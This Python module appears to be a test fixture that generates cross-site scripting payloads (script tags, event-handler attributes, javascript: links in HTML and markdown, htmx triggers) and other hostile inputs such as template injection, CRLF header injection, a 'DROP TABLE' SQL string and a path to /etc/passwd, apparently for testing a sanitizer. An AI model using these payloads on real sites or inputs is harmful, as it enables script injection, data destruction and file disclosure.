# ruff: noqa: E501 - payloads are read line by line
"""Texts that would run a script where they were put into a page as they are."""

from __future__ import annotations

from itertools import product

RUN = "window.ran=1;alert(1)"
ELEMENTS = (
    "<script>{run}</script>", "<ScRiPt >{run}</sCrIpT>", "<img src=x onerror={run}>",
    "<svg onload={run}>", "<svg><script>{run}</script></svg>", "<body onload={run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>", "<iframe src=javascript:{run}>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<input autofocus onfocus={run}>", "<a href=javascript:{run} autofocus onfocus={run}>x</a>",
    "<video><source onerror={run}></video>", "<math><mtext><img src=x onerror={run}></math>",
    "<style>@import 'javascript:{run}';</style>", "<link rel=stylesheet href=javascript:{run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<object data=javascript:{run}></object>", "<embed src=javascript:{run}>",
    "<form action=javascript:{run}><button autofocus onfocus={run}>x</button></form>",
    "<template><script>{run}</script></template><img src=x onerror={run}>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'></noscript>",
    "<dialog open onfocusin={run}><button autofocus>x</button></dialog>",
    "<div hx-on:load='{run}' hx-trigger=load hx-get=/>x</div>",
    "<p hx-get='javascript:{run}' hx-trigger='load'>x</p>",
)  # fmt: skip
BREAKS = ("{payload}", '">{payload}', "'>{payload}", "</textarea>{payload}", "--></title>{payload}")
MARKDOWN = (
    "[x](javascript:{run})", "[x](JaVaScRiPt:{run})", "[x](&#106;avascript:{run})",
    "[x](data:text/html,<script>{run}</script>)", "[x](vbscript:{run})", "<javascript:{run}>",
    "![x](javascript:{run})", "![x](x){{onerror={run}}}", "[1](javascript:{run})",
    "[x]: javascript:{run}\n\n[x]", "[1][x]\n\n[x]: javascript:{run}", "`<img src=x onerror={run}>`",
    "> <img src=x onerror={run}>", "- <svg onload={run}>", "| a |\n|---|\n| <img src=x onerror={run}> |",
    "[x](http://a.invalid/\" onmouseover=\"{run})", "[x](<javascript:{run}>)",
    "## <img src=x onerror={run}>", "*<script>{run}</script>*", "[x](\x01javascript:{run})",
    "[x](java\tscript:{run})", "[x](//a.invalid/%22onerror={run})", "<!--><img src=x onerror={run}>",
    "<![CDATA[<script>{run}</script>]]>", "<?php <script>{run}</script> ?>",
)  # fmt: skip
INJECTIONS = (
    "{{{{ 7*7 }}}}{{% raw %}}", "{{{{ config }}}}", "${{7*7}}", "#{{7*7}}", "%0d%0aSet-Cookie: a=b",
    "'; DROP TABLE documents; --", '" OR 1=1 --', "../../../../etc/passwd", "\\x00<script>",
    "＜script＞{run}＜/script＞", "&lt;script&gt;{run}&lt;/script&gt;", "\u202e<img src=x onerror={run}>",
)  # fmt: skip


def payloads() -> list[str]:
    """Return every payload, each once."""
    made = [
        shape.format(payload=element.format(run=RUN))
        for element, shape in product(ELEMENTS, BREAKS)
    ]
    made += [text.format(run=RUN) for text in (*MARKDOWN, *INJECTIONS)]
    return list(dict.fromkeys(made))
